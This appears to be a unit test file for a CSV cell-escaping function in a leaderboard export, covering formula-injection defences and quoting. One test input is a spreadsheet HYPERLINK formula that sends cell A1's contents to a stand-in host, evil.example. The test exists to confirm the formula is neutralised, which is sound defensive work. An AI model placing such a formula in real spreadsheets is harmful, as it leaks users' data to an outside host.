// CSV cells of the leaderboard export: quoting, and OWASP's rule against formula injection.
import { describe, expect, it } from "vitest";
import { csvCell } from "../../../src/api/leaderboard";

describe("csvCell", () => {
  it("prefixes text that a spreadsheet would run (=, +, -, @, tab, carriage return) with an apostrophe", () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+cmd")).toBe("'+cmd");
    expect(csvCell("-2")).toBe("'-2");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\tx")).toBe("'\tx");
    expect(csvCell("\rx")).toBe('"\'\rx"');
  });

  it("quotes commas, quotes and line breaks, and writes numbers and booleans as they are", () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell(-3.5)).toBe("-3.5");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
    expect(csvCell("plain model")).toBe("plain model");
  });
});
